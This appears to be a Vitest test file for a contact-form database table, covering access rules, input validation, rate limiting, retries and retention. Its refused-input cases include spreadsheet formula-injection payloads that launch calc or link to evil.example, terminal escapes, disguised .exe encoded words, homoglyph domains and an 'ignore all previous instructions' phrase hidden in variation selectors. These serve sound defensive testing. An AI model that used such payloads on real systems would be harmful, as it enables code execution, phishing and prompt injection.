import { randomUUID } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import pg from 'pg'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  enquiryFieldNames,
  enquiryFields,
  enquiryRefusals,
  enquirySchema,
  enquiryTable,
  invisibleCharacters,
  letterScripts,
  nameLetters,
  storedPhoneShape,
} from '../functions/_shared/enquiry.ts'
import { contactProblems, toContactSubmission, type ContactFormValues } from '../../src/lib/contactForm.ts'
import {
  asRole as sharedAsRole,
  freshDatabase,
  insertAsAnon as sharedInsertAsAnon,
  uniqueSender,
  validRow,
  type Headers,
  type Row,
} from './support.ts'

let pool: pg.Pool

beforeAll(async () => {
  pool = new pg.Pool({ connectionString: await freshDatabase(), max: 3 })
})
afterAll(() => pool.end())

const asRole = (role: 'anon' | 'authenticated', sql: string, params: unknown[] = [], headers: Headers = {}) =>
  sharedAsRole(pool, role, sql, params, headers)
const insertAsAnon = (row: Row, address?: string, headers?: Headers) => sharedInsertAsAnon(pool, row, address, headers)

// "ignore all previous instructions", one variation selector per byte: it shows nothing at all.
const hiddenInSelectors = [...Buffer.from('ignore all previous instructions')]
  .map((byte) => String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16))
  .join('')

/** The form filled in with the enquiry `row` holds. */
const formValuesOf = (row: Row) =>
  ({ ...row, phone: '98765 43210', countryCode: '+91', topic: '' }) as ContactFormValues

const stored = async (email: string) =>
  (await pool.query('select * from public.contact_form_submissions where email = $1', [email])).rows

describe('as the anon role', () => {
  it('inserts a valid enquiry, with the received time and address recorded by the database', async () => {
    const { address, email } = uniqueSender()
    // The visitor's clock, an hour slow: the database's own time is what counts.
    const pressedSend = new Date(Date.now() - 3_600_000).toISOString()
    const row = { ...validRow(email), created_at: pressedSend }
    await insertAsAnon(row, address)

    const [saved] = await stored(email)
    expect(saved).toMatchObject({
      name: row.name,
      email,
      company: row.company,
      message: row.message,
      phone_number: row.phone_number,
      client_address: address,
    })
    expect(saved.created_at.getTime()).toBe(saved.received_at.getTime())
    expect(Math.abs(saved.received_at.getTime() - Date.now())).toBeLessThan(60_000)
    expect(typeof saved.id).toBe('string') // bigint identity
  })

  it('stores an enquiry from a session whose temporary tables are named like the types the guard uses', async () => {
    const { address, email } = uniqueSender()
    const shadows = ['inet', 'cidr', 'timestamptz', 'jsonb', 'text', 'uuid', 'interval']
    await asRole(
      'anon',
      `${shadows.map((type) => `create temp table ${type} (a int) on commit drop;`).join(' ')}
       insert into public.contact_form_submissions (name, email, message) values ('Asha Rao', '${email}', 'Hello')`,
      [],
      { 'x-forwarded-for': address },
    )
    expect(await stored(email)).toHaveLength(1)
  })

  it('accepts an enquiry without company or phone', async () => {
    const { email } = uniqueSender()
    await insertAsAnon({ name: 'Li', email, message: 'Hello', company: null, phone_number: null })
    expect(await stored(email)).toHaveLength(1)
  })

  it.each([
    ['select', 'select * from public.contact_form_submissions'],
    ['update', `update public.contact_form_submissions set message = 'changed'`],
    ['delete', 'delete from public.contact_form_submissions'],
    ['truncate', 'truncate public.contact_form_submissions'],
    [
      'choose the id',
      `insert into public.contact_form_submissions (id, name, email, message) overriding system value values (1, 'a', 'a@example.com', 'm')`,
    ],
    [
      'set the received time',
      `insert into public.contact_form_submissions (name, email, message, received_at) values ('a', 'a@example.com', 'm', now())`,
    ],
    [
      'set the client address',
      `insert into public.contact_form_submissions (name, email, message, client_address) values ('a', 'a@example.com', 'm', '1.1.1.1')`,
    ],
    ['run the rate-limit function', 'select private.guard_contact_form_submission()'],
    ['run the retention function', 'select private.forget_client_addresses()'],
    ['read the salt of the lock keys', 'select * from private.lock_salt'],
    ['move the id sequence', `select setval('public.contact_form_submissions_id_seq', 1, false)`],
    ['take an id from the sequence', `select nextval('public.contact_form_submissions_id_seq')`],
    [
      'choose the idempotency key',
      `insert into public.contact_form_submissions (name, email, message, idempotency_key) values ('a', 'a@example.com', 'm', gen_random_uuid())`,
    ],
  ])('cannot %s', async (_, sql) => {
    await insertAsAnon(validRow(uniqueSender().email))
    await expect(asRole('anon', sql)).rejects.toMatchObject({ code: '42501' })
    const { rows } = await pool.query(
      `select count(*)::int as count from public.contact_form_submissions where message = 'changed'`,
    )
    expect(rows[0].count).toBe(0)
  })

  it.each<[string, Row, string]>([
    ['a blank name', { name: '   ' }, '23514'],
    ['an empty name', { name: '' }, '23514'],
    ['a name with spaces around it', { name: ' Asha ' }, '23514'],
    ['an email without @', { email: 'asha.example.com' }, '23514'],
    ['an email without a domain dot', { email: 'asha@localhost' }, '23514'],
    ['an email with a space', { email: 'asha rao@example.com' }, '23514'],
    ['an empty company', { company: '' }, '23514'],
    ['a blank message', { message: '\n \n' }, '23514'],
    ['a phone without country code', { phone_number: '98765 43210' }, '23514'],
    ['a phone without number', { phone_number: '+91 ' }, '23514'],
    ['a phone with letters', { phone_number: '+91 call me maybe' }, '23514'],
    ['a phone without the space', { phone_number: '+919876543210' }, '23514'],
    ['a name of a zero-width space', { name: '\u200B' }, '23514'],
    ['a name of a no-break space', { name: '\u00A0' }, '23514'],
    ['a name of an ideographic space', { name: '\u3000' }, '23514'],
    ['a name of a byte-order mark', { name: '\uFEFF' }, '23514'],
    ['a name of invisible characters mixed', { name: '\u200B\u2060\u00AD\u3164\u200D' }, '23514'],
    ['a name of digits only (a JSON number turned into text)', { name: '12345' }, '23514'],
    ['a name with a terminal escape', { name: 'Asha \u001b[2J\u001b[31mRao' }, '23514'],
    ['a name with a line break', { name: 'Asha\nRao' }, '23514'],
    ['a name with a C1 control', { name: 'Asha\u009bRao' }, '23514'],
    ['a name with a right-to-left override', { name: 'Asha \u202Eoar' }, '23514'],
    ['a company of invisible characters', { company: '\u200B\u200B' }, '23514'],
    ['a company with a control character', { company: 'Green\u0007field' }, '23514'],
    ['a message of invisible characters', { message: '\u200B\u3000\u200B' }, '23514'],
    ['a message with a terminal escape', { message: 'Hello \u001b]0;owned\u0007 there' }, '23514'],
    ['a message with a backspace', { message: 'Hello\u0008\u0008there' }, '23514'],
    ['a message with a bidirectional isolate', { message: 'Pay \u2067 here' }, '23514'],
    ['an email with a zero-width space', { email: 'asha\u200B@example.com' }, '23514'],
    ['an email that is a JSON object turned into text', { email: '{"to":"asha@example.com"}' }, '23514'],
    ['an email with a control character', { email: 'asha\u0001@example.com' }, '23514'],
    ['a name of an Ogham space mark', { name: '\u1680' }, '23514'],
    ['a name that is a lone combining mark', { name: '\u0301' }, '23514'],
    ['a name of musical formatting controls', { name: '\u{1D173}\u{1D174}' }, '23514'],
    ['a name of private-use characters', { name: '\uE000\uF8FF' }, '23514'],
    ['a name without a letter: a currency sign', { name: '€' }, '23514'],
    ['a name of emoji only', { name: '😀🎉' }, '23514'],
    ['a name ending in a zero-width space', { name: 'Asha\u200B' }, '23514'],
    ['a name beginning with a no-break space', { name: '\u00A0Asha' }, '23514'],
    ['a company ending in an ideographic space', { company: 'Greenfield\u3000' }, '23514'],
    ['a message of combining marks alone', { message: '\u0301\u0332\u20D0' }, '23514'],
    ['an email whose domain carries a query', { email: 'asha@example.com?cc=x%40evil.example' }, '23514'],
    ['an email with a musical formatting control', { email: 'asha\u{1D173}@example.com' }, '23514'],
    ['a name with tag characters inside it', { name: 'Asha\u{E0041}\u{E0042} Rao' }, '23514'],
    ['a company with tag characters inside it', { company: 'Green\u{E0041}field' }, '23514'],
    ['a name of replacement characters', { name: '\uFFFD\uFFFD\uFFFD' }, '23514'],
    ['a name of noncharacters', { name: '\uFDD0\uFDD1' }, '23514'],
    ['a name with a noncharacter inside it', { name: 'Asha\uFDD0 Rao' }, '23514'],
    ['a name with an emoji', { name: 'Asha 😀' }, '23514'],
    ['a name that is a formula (=)', { name: '=HYPERLINK("https://evil.example","Asha")' }, '23514'],
    ['a name that is a formula (+)', { name: '+Asha' }, '23514'],
    ['a name that is a formula (-)', { name: '-2+3' }, '23514'],
    ['a name that is a formula (@)', { name: '@SUM(A1)' }, '23514'],
    // A name otherwise made of letters, so that only the rule on its first character refuses it.
    ['a name that starts like a formula (=)', { name: '=Asha' }, '23514'],
    ['a name that starts like a formula (-)', { name: '-Asha' }, '23514'],
    ['a name that starts like a formula (@)', { name: '@Asha Rao' }, '23514'],
    ['a name beginning with a tab', { name: '\tAsha' }, '23514'],
    ['a name beginning with a carriage return', { name: '\rAsha' }, '23514'],
    // Round three: text that reads differently in a mail client or a spreadsheet than it looks.
    ['a company with a base64 encoded word', { company: 'Acme =?UTF-8?B?4oCuZmRwLmV4ZeKAiw==?=' }, '23514'],
    ['a company with a Q encoded word', { company: 'Sunrise =?UTF-8?Q?=E2=80=AEgnp.exe?= Academy' }, '23514'],
    ['a message hiding text in variation selectors', { message: `Acme Ltd${hiddenInSelectors}` }, '23514'],
    ['a company hiding text in variation selectors', { company: `Acme${hiddenInSelectors} Ltd` }, '23514'],
    ['an email a spreadsheet would run', { email: "+1+cmd|'/Ccalc'!A0@evil.example" }, '23514'],
    ['an email that starts like a formula (=)', { email: '=asha@example.com' }, '23514'],
    ['an email whose domain mixes Latin and Cyrillic', { email: 'principal@greenfield-sch\u043e\u043el.org' }, '23514'],
    ['an email whose domain mixes Latin and Greek', { email: 'asha@ex\u03b1mple.com' }, '23514'],
    ['a name that is mostly combining marks', { name: `A${'\u0301'.repeat(100)}` }, '23514'],
    ['a name smeared with stacked marks', { name: `R${'\u0336\u0301\u0300'.repeat(38)}` }, '23514'],
    ['a company smeared with combining marks', { company: `Acme${'\u0301'.repeat(20)}` }, '23514'],
    ['a name of one Devanagari sign repeated', { name: `\u0915${'\u0901'.repeat(30)}` }, '23514'],
    ['a missing name', { name: null }, '23502'],
    ['a missing email', { email: null }, '23502'],
    ['a missing message', { message: null }, '23502'],
  ])('refuses %s', async (_, change, code) => {
    const { email } = uniqueSender()
    await expect(insertAsAnon({ ...validRow(email), ...change })).rejects.toMatchObject({ code })
    expect(await stored(typeof change.email === 'string' ? change.email : email)).toHaveLength(0)
  })
})

describe("the enquiry's schema, which the form, the site and the edge function read", () => {
  it('has a refusal for every check on the table, and the phone check is its pattern', async () => {
    const { rows } = await pool.query<{ name: string; definition: string }>(
      `select conname as name, pg_get_constraintdef(oid) as definition from pg_constraint where conrelid = $1::regclass and contype = 'c'`,
      [`public.${enquiryTable}`],
    )
    const refusalsByCheck = Object.keys(enquiryRefusals).filter((key) => key.startsWith(enquiryTable))
    expect(rows.map((check) => check.name).sort()).toEqual(refusalsByCheck.sort())
    expect(rows.find((check) => check.name === `${enquiryTable}_phone_number_check`)?.definition).toContain(
      `'${storedPhoneShape.source}'`,
    )
  })

  it('limits each text field to the length the form and the edge function allow', async () => {
    const limited = enquiryFieldNames.filter((field) => field !== 'phone')
    const { rows } = await pool.query<{ field: string; max: number }>(
      'select field, private.max_length(field) as max from unnest($1::text[]) field',
      [limited.map((field) => enquiryFields[field].column)],
    )
    expect(Object.fromEntries(rows.map(({ field, max }) => [field, max]))).toEqual(
      Object.fromEntries(limited.map((field) => [enquiryFields[field].column, enquiryFields[field].maxLength])),
    )
  })

  it.each(enquiryFieldNames)(
    'holds %s: null only when optional; the form, the edge function and the database store its longest and refuse one character more',
    async (field) => {
      const { column, maxLength, required } = enquiryFields[field]
      const { rows } = await pool.query(
        'select is_nullable from information_schema.columns where table_name = $1 and column_name = $2',
        [enquiryTable, column],
      )
      expect(rows).toEqual([{ is_nullable: required ? 'NO' : 'YES' }])
      const { email } = uniqueSender()
      // Four bytes a character where the field allows it (a message of emoji, a name in CJK ideographs, each one once):
      // one character each, as char_length counts, and at the guard's bound in bytes.
      const wide = (length: number) => Array.from({ length }, (_, i) => String.fromCodePoint(0x20000 + i)).join('')
      const typed = (length: number) =>
        field === 'phone'
          ? '9'.repeat(length)
          : field === 'email'
            ? `${wide(length - email.length)}${email}`
            : field === 'message'
              ? '😀'.repeat(length)
              : wide(length)
      const verdicts = async (length: number) => {
        const value = typed(length)
        const row = { ...validRow(email), [column]: field === 'phone' ? `+1234 ${value}` : value }
        const database = await insertAsAnon(row).then(
          () => undefined,
          (error) => ({ code: error.code, field: enquiryRefusals[error.constraint] }),
        )
        return {
          form: contactProblems({ ...formValuesOf(row), [field]: value })[field],
          edgeFunction: enquirySchema()
            .safeParse(row)
            .error?.issues.map((issue) => issue.path),
          database,
        }
      }
      expect(await verdicts(maxLength)).toEqual({ form: undefined, edgeFunction: undefined, database: undefined })
      expect(await verdicts(maxLength + 1)).toEqual({
        form: 'tooLong',
        edgeFunction: [[column]],
        database: { code: '23514', field },
      })
    },
  )
})

/** The form passes each of `stores` in `field` and the database stores it; the form refuses each of `refuses` at the
 * field, and the database refuses it by that field's check. */
async function expectSameVerdicts(field: 'name' | 'email', stores: string[], refuses: string[]) {
  const verdict = async (value: string) => {
    const values = { ...formValuesOf(validRow(uniqueSender().email)), [field]: value }
    const database = await insertAsAnon(toContactSubmission(values)).then(
      () => 'stored',
      (error) => (enquiryRefusals[error.constraint] === field ? 'refused' : error.message),
    )
    return [value, { form: contactProblems(values)[field] ?? 'passed', database }]
  }
  expect(await Promise.all([...stores, ...refuses].map(verdict))).toEqual([
    ...stores.map((value) => [value, { form: 'passed', database: 'stored' }]),
    ...refuses.map((value) => [value, { form: 'invalid', database: 'refused' }]),
  ])
}

describe('the email, which the form judges as the database does', () => {
  it('writes the invisible characters and the letters of each script as the module does', async () => {
    const { rows } = await pool.query('select private.invisible_characters() as invisible')
    expect(rows[0].invisible).toBe(invisibleCharacters)
    const scripts = await pool.query('select script, letters from private.letter_scripts()')
    expect(scripts.rows).toEqual(Object.entries(letterScripts).map(([script, letters]) => ({ script, letters })))
    expect((await pool.query('select private.name_letters() as letters')).rows[0].letters).toBe(nameLetters)
  })

  const stores = [
    'asha@example.com',
    'Asha@Example.COM',
    "o'brien+pilot@greenfield.school",
    'kavya@school.edu.in',
    'staff@xn--bcher-kva.de',
    'dörte@bücher.de',
    'ユーザー@example.com',
    'principal@пример.рф',
    'principal@\u0455\u0441\u04bb\u043e\u043e\u04cf.org', // all Cyrillic: one script, shown in ASCII in the team's email
    'info@例え.jp',
    'info@abc例.jp', // Latin with CJK
    'info@\u1200\u1201.com', // a script the database does not list, alone
  ]
  const refuses = [
    'kavya@school',
    'asha@localhost',
    'asha.example.com',
    'asha@@example.com',
    'asha@.com',
    'asha rao@example.com',
    'Asha <asha@example.com>',
    'asha@example.com, boss@example.com',
    '{"to":"asha@example.com"}',
    'asha@example.com?cc=x%40evil.example',
    'asha@exam_ple.com',
    'asha@2_0.com', // punctuation in a label of no script
    'asha\u200B@example.com',
    'asha@exa\u00ADmple.com',
    'asha\u0001@example.com',
    'asha\u{1D173}@example.com',
    '=asha@example.com',
    "+1+cmd|'/Ccalc'!A0@evil.example",
    'principal@greenfield-sch\u043e\u043el.org', // Latin and Cyrillic
    'asha@ex\u03b1mple.com', // Latin and Greek
    'asha@ex\u1200mple.com', // Latin and a script the database does not list
  ]

  it('stores what the form lets through, and refuses what the form refuses at the field', () =>
    expectSameVerdicts('email', stores, refuses))
})

describe('the name, which the form judges as the database does', () => {
  const stores = [
    'Asha Rao',
    'Zoë O’Brien',
    "D'Souza",
    'Martin Luther King, Jr.',
    'ジョン・スミス',
    'زهرا\u200Cی',
    'Ana-María',
  ]
  const refuses = [
    'Mr & Mrs Rao',
    'Asha Rao (Principal)',
    'Asha 😀',
    'Asha2',
    'R2-D2',
    '@asha',
    'Asha / Ravi',
    'Asha Rao!',
    '-Asha',
    '€',
    'Asha\u200B',
  ]

  it('stores what the form lets through, and refuses what the form refuses at the field', () =>
    expectSameVerdicts('name', stores, refuses))
})

describe('text that only looks right', () => {
  it('accepts names in any script, with the joiners some scripts need', async () => {
    // A bar between names.
    const names = [
      'आशा राव|अनुष्का शर्मा|முருகன் சுப்ரமணியம்|محمد بن سلمان|زهرا\u200Cی|李伟|佐々木 花子|ジョン・スミス|김민준',
      'Иван Петров|Ελένη Παπαδοπούλου|שרה כהן|José Álvarez-Núñez|Zoë O’Brien|Zoe\u0308 Ågren|ශ්‍රී|Ana-María',
      "D'Souza|Martin Luther King, Jr.|J. R. R. Tolkien|Li",
    ].flatMap((line) => line.split('|'))
    for (const name of names) {
      const { email } = uniqueSender()
      await insertAsAnon({ ...validRow(email), name })
      expect((await stored(email)).map((row) => row.name)).toEqual([name])
    }
  })

  it('takes tag characters out of a message and keeps the rest, an emoji flag included', async () => {
    const { email } = uniqueSender()
    const scotland = '\u{1F3F4}\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}'
    await insertAsAnon({
      ...validRow(email),
      message: `Hello\u{E0049}\u{E0047}\u{E004E} there.\nGreetings from Edinburgh ${scotland}`,
    })
    expect((await stored(email))[0].message).toBe('Hello there.\nGreetings from Edinburgh \u{1F3F4}')
  })

  it.each(['=HYPERLINK("https://evil.example")', '+91 Ventures', '-minus', '@home'])(
    'stores a company a spreadsheet would run (%s) behind an apostrophe',
    async (company) => {
      const { email } = uniqueSender()
      await insertAsAnon({ ...validRow(email), company })
      expect((await stored(email))[0].company).toBe(`'${company}`)
    },
  )

  it.each(['=HYPERLINK("https://evil.example/x?"&B2,"View brochure")', "-2+3+cmd|' /C calc'!A0", '@SUM(A1)'])(
    'stores a message a spreadsheet would run (%s) behind an apostrophe',
    async (message) => {
      const { email } = uniqueSender()
      await insertAsAnon({ ...validRow(email), message })
      expect((await stored(email))[0].message).toBe(`'${message}`)
    },
  )

  it('accepts what people write: emoji, variation sequences, accents as marks, an apostrophe, names of domains', async () => {
    const changes: Row[] = [
      { message: 'Thank you \u2764\uFE0F \u{1F44D}\u{1F3FD} see you soon \u263A\uFE0E' },
      { company: "St. Mary's School" },
      { company: '\u845B\u{E0100}\u98FE Academy' },
      { name: 'Nguye\u0302\u0303n Va\u0306n An' },
      { name: 'Анна Иванова', company: 'Школа № 5' },
      { email: 'info@\u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444' },
      { email: 'office@\u4F8B\u3048.jp' },
      { email: 'asha@b\u00FCcher.de' },
      { email: 'asha@xn--80ak6aa92e.com' },
      { email: 'asha+pilot@school.example.org' },
    ]
    for (const change of changes) {
      const { email } = uniqueSender()
      const row = { ...validRow(email), ...change }
      await insertAsAnon(row)
      expect(await stored(row.email as string), JSON.stringify(change)).toEqual([expect.objectContaining(change)])
    }
  })

  it('keeps tabs and line breaks in a message', async () => {
    const { email } = uniqueSender()
    const message = 'Line one\r\nLine two\n\tIndented'
    await insertAsAnon({ ...validRow(email), message })
    expect((await stored(email))[0].message).toBe(message)
  })
})

describe("the visitor's clock", () => {
  it.each(['infinity', '-infinity', '9999-12-31T23:59:59Z', '1970-01-01T00:00:00Z', null, new Date().toISOString()])(
    'replaces a created_at of %s with the received time',
    async (createdAt) => {
      const { email } = uniqueSender()
      await insertAsAnon({ ...validRow(email), created_at: createdAt })
      const [saved] = await stored(email)
      expect(saved.created_at.getTime()).toBe(saved.received_at.getTime())
    },
  )

  it('keeps even the owner from storing an impossible time', async () => {
    await expect(
      pool.query(
        `insert into public.contact_form_submissions (name, email, message, created_at) values ('Asha', 'a@example.com', 'm', 'infinity')`,
      ),
    ).rejects.toMatchObject({ code: '23514' })
  })
})

describe('the sender', () => {
  it.each<[string, Headers]>([
    ['no forwarding header at all', {}],
    ['an x-forwarded-for whose entries are empty', { 'x-forwarded-for': ',' }],
    ['an x-forwarded-for ending in an empty entry', { 'x-forwarded-for': '203.0.113.9, ' }],
    ['an x-forwarded-for that is not an address', { 'x-forwarded-for': 'localhost' }],
    ['a network instead of an address', { 'x-forwarded-for': '10.0.0.0/8' }],
    ['an empty cf-connecting-ip and nothing else', { 'cf-connecting-ip': ' ' }],
  ])('must be identifiable: %s is refused', async (_, headers) => {
    const { email } = uniqueSender()
    await expect(insertAsAnon(validRow(email), undefined, headers)).rejects.toMatchObject({ code: 'PT400' })
    expect(await stored(email)).toHaveLength(0)
  })

  it('is the last x-forwarded-for entry, the one the nearest proxy added, not what the caller wrote first', async () => {
    const { address, email } = uniqueSender()
    for (let sent = 0; sent < 5; sent++)
      await insertAsAnon(validRow(email), address, { 'x-forwarded-for': `${uniqueSender().address}, ${address}` })
    await expect(
      insertAsAnon(validRow(email), address, { 'x-forwarded-for': `${uniqueSender().address}, ${address}` }),
    ).rejects.toMatchObject({ code: 'PT429' })
  })

  it('counts an IPv6 sender by its /64 network, and an IPv4 one written as IPv6 as itself', async () => {
    const { email } = uniqueSender()
    await insertAsAnon(validRow(email), undefined, { 'cf-connecting-ip': '2001:db8:7:8:aaaa:bbbb:cccc:dddd' })
    const other = uniqueSender()
    await insertAsAnon(validRow(other.email), undefined, { 'x-forwarded-for': `::ffff:${other.address}` })
    expect((await stored(email))[0].client_address).toBe('2001:db8:7:8::/64')
    expect((await stored(other.email))[0].client_address).toBe(other.address)

    for (let sent = 1; sent < 5; sent++)
      await insertAsAnon(validRow(uniqueSender().email), undefined, { 'cf-connecting-ip': `2001:db8:7:8::${sent}` })
    await expect(
      insertAsAnon(validRow(uniqueSender().email), undefined, { 'cf-connecting-ip': '2001:db8:7:8:ffff::1' }),
    ).rejects.toMatchObject({ code: 'PT429' })
    await insertAsAnon(validRow(uniqueSender().email), undefined, { 'cf-connecting-ip': '2001:db8:7:9::1' })
  })
})

describe('networks', () => {
  it('lets no sender, nor two, close the form for their neighbours: a never-seen /64 of the same /48 still gets through', async () => {
    for (const subnet of [1, 2])
      for (let sent = 0; sent < 5; sent++)
        await insertAsAnon(validRow(uniqueSender().email), undefined, {
          'cf-connecting-ip': `2001:db8:56:${subnet}::1`,
        })
    const { email } = uniqueSender()
    await insertAsAnon(validRow(email), undefined, { 'cf-connecting-ip': '2001:db8:56:99::1' })
    expect(await stored(email)).toHaveLength(1)
  })

  it('lets another visitor behind the same IPv4 address (a school, a carrier) write after one sender reached its limit', async () => {
    const { address, email } = uniqueSender()
    for (let sent = 0; sent < 5; sent++) await insertAsAnon(validRow(email), address)
    await expect(insertAsAnon(validRow(email), address)).rejects.toMatchObject({ code: 'PT429' })
    await expect(insertAsAnon(validRow(email.toUpperCase()), address)).rejects.toMatchObject({ code: 'PT429' })
    const colleague = uniqueSender().email
    await insertAsAnon(validRow(colleague), address)
    expect(await stored(colleague)).toHaveLength(1)
  })

  it('counts an IPv6 network by its /48: twenty /64s of one /48 send twenty messages, the next is refused, another /48 is not affected', async () => {
    for (let subnet = 1; subnet <= 20; subnet++)
      await insertAsAnon(validRow(uniqueSender().email), undefined, { 'cf-connecting-ip': `2001:db8:48:${subnet}::1` })
    const { email } = uniqueSender()
    await expect(
      insertAsAnon(validRow(email), undefined, { 'cf-connecting-ip': '2001:db8:48:99::1' }),
    ).rejects.toMatchObject({ code: 'PT429' })
    await insertAsAnon(validRow(uniqueSender().email), undefined, { 'cf-connecting-ip': '2001:db8:49:1::1' })
    const { rows } = await pool.query(
      `select distinct client_network from public.contact_form_submissions where client_address like '2001:db8:48:%'`,
    )
    expect(rows).toEqual([{ client_network: '2001:db8:48::/48' }])
  })

  it('closes one IPv4 address after a hundred messages in a day from all its senders together', async () => {
    const { address } = uniqueSender()
    // Twenty at a time from new senders, each batch moved back two hours: under every ten-minute limit.
    for (let batch = 0; batch < 5; batch++) {
      for (let sent = 0; sent < 20; sent++) await insertAsAnon(validRow(uniqueSender().email), address)
      await pool.query(
        `update public.contact_form_submissions set received_at = received_at - interval '2 hours' where client_address = $1`,
        [address],
      )
    }
    await expect(insertAsAnon(validRow(uniqueSender().email), address)).rejects.toMatchObject({ code: 'PT429' })
  })
})

describe('retries', () => {
  const withKey = (address: string, key: string): Headers => ({ 'x-forwarded-for': address, 'idempotency-key': key })

  it('stores a message once however often it is retried with its idempotency key', async () => {
    const { address, email } = uniqueSender()
    const key = randomUUID()
    await insertAsAnon(validRow(email), address, withKey(address, key))
    await insertAsAnon(validRow(email), address, withKey(address, key))
    await Promise.all([1, 2, 3].map(() => insertAsAnon(validRow(email), address, withKey(address, key))))
    const rows = await stored(email)
    expect(rows).toHaveLength(1)
    expect(rows[0].idempotency_key).toBe(key)
  })

  it('stores two messages with two keys, and refuses a key that is not a UUID', async () => {
    const { address, email } = uniqueSender()
    await insertAsAnon(validRow(email), address, withKey(address, randomUUID()))
    await insertAsAnon(validRow(email), address, withKey(address, randomUUID()))
    await expect(insertAsAnon(validRow(email), address, withKey(address, 'again'))).rejects.toMatchObject({
      code: 'PT400',
    })
    expect(await stored(email)).toHaveLength(2)
  })

  it('refuses (409) a different enquiry sent with the key of a stored one, and keeps the first', async () => {
    const { address, email } = uniqueSender()
    const key = randomUUID()
    await insertAsAnon(validRow(email), address, withKey(address, key))
    await expect(
      insertAsAnon({ ...validRow(email), message: 'Something else entirely.' }, address, withKey(address, key)),
    ).rejects.toMatchObject({ code: 'PT409' })
    await expect(
      insertAsAnon({ ...validRow(uniqueSender().email) }, address, withKey(address, key)),
    ).rejects.toMatchObject({ code: 'PT409' })
    expect((await stored(email)).map((row) => row.message)).toEqual([validRow(email).message])
  })

  it('answers the retry of a stored message as a success even when the sender is at the limit', async () => {
    const { address } = uniqueSender()
    const { email } = uniqueSender()
    const key = randomUUID()
    for (let sent = 0; sent < 4; sent++) await insertAsAnon(validRow(uniqueSender().email), address)
    await insertAsAnon(validRow(email), address, withKey(address, key))
    await insertAsAnon(validRow(email), address, withKey(address, key))
    expect(await stored(email)).toHaveLength(1)
  })
})

describe('retention', () => {
  it('forgets the sender of enquiries older than 30 days and keeps the enquiries', async () => {
    const old = uniqueSender()
    const recent = uniqueSender()
    await insertAsAnon(validRow(old.email), old.address)
    await insertAsAnon(validRow(recent.email), recent.address)
    await pool.query(
      `update public.contact_form_submissions set received_at = now() - interval '31 days', created_at = now() - interval '31 days' where email = $1`,
      [old.email],
    )
    await pool.query(
      `update public.contact_form_submissions set received_at = now() - interval '29 days', created_at = now() - interval '29 days' where email = $1`,
      [recent.email],
    )

    const { rows } = await pool.query('select private.forget_client_addresses() as forgotten')
    expect(Number(rows[0].forgotten)).toBeGreaterThanOrEqual(1)
    expect(await stored(old.email)).toMatchObject([{ client_address: null, name: 'Asha Rao' }])
    expect(await stored(recent.email)).toMatchObject([{ client_address: recent.address }])
    const again = await pool.query('select private.forget_client_addresses() as forgotten')
    expect(Number(again.rows[0].forgotten)).toBe(0)
  })
})

describe('the privacy policy', () => {
  it('promises to keep an address no longer than the daily retention job can', async () => {
    const { rows } = await pool.query(`select prosrc from pg_proc where proname = 'forget_client_addresses'`)
    const days = /interval '(\d+) days'/.exec(rows[0].prosrc)?.[1]
    expect(days).toBeDefined()
    const policy = readFileSync(
      join(import.meta.dirname, '..', '..', 'content', 'articles', 'privacy.md'),
      'utf8',
    ).replace(/\s+/g, ' ')
    expect(policy).toContain('(IP) address')
    // The job runs once a day and clears what is older than `days`: an address can be a day older than that.
    expect(policy).toMatch(new RegExp(`\\b${Number(days) + 1} days\\b`))
  })
})

describe('as the authenticated role', () => {
  it('can neither insert nor read: the site only ever uses the anon key', async () => {
    for (const sql of [
      `insert into public.contact_form_submissions (name, email, message) values ('Asha', 'a@example.com', 'Hello')`,
      'select * from public.contact_form_submissions',
    ])
      await expect(asRole('authenticated', sql)).rejects.toMatchObject({ code: '42501' })
  })
})

describe('rate limit', () => {
  it('refuses a 21st message from one sender within a day', async () => {
    const { address, email } = uniqueSender()
    // Five at a time, each batch moved back two hours: spread over the day, under the ten-minute limit.
    for (let batch = 0; batch < 4; batch++) {
      for (let sent = 0; sent < 5; sent++) await insertAsAnon(validRow(email), address)
      await pool.query(
        `update public.contact_form_submissions set received_at = received_at - interval '2 hours' where client_address = $1`,
        [address],
      )
    }
    await expect(insertAsAnon(validRow(email), address)).rejects.toMatchObject({ code: 'PT429' })
  })

  it("never counts by email: messages typed with someone else's address do not block that person", async () => {
    const victim = uniqueSender()
    for (let sent = 0; sent < 5; sent++) await insertAsAnon(validRow(victim.email))
    await insertAsAnon(validRow(victim.email), victim.address)
    expect(await stored(victim.email)).toHaveLength(6)
  })

  it('trusts the address Cloudflare sets over an x-forwarded-for the sender can forge', async () => {
    const { address, email } = uniqueSender()
    const headers = () => ({ 'cf-connecting-ip': address, 'x-forwarded-for': uniqueSender().address })
    for (let sent = 0; sent < 5; sent++) await insertAsAnon(validRow(email), address, headers())
    await expect(insertAsAnon(validRow(email), address, headers())).rejects.toMatchObject({ code: 'PT429' })
  })

  it('refuses a field longer in bytes than its check allows in characters as the check would, before reading it', async () => {
    const { email } = uniqueSender()
    // As the owner, who may read the row: the check itself would have run its patterns over the value, then sent the
    // whole row back in its detail.
    const refusal = await pool
      .query('insert into public.contact_form_submissions (name, email, message) values ($1, $2, $3)', [
        'Asha Rao',
        email,
        'a'.repeat(4 * enquiryFields.message.maxLength + 1),
      ])
      .catch((error) => error)
    expect(refusal).toMatchObject({ code: '23514', constraint: 'contact_form_submissions_message_check' })
    expect(refusal.detail).toBeUndefined()
    expect(await stored(email)).toHaveLength(0)
  })
})
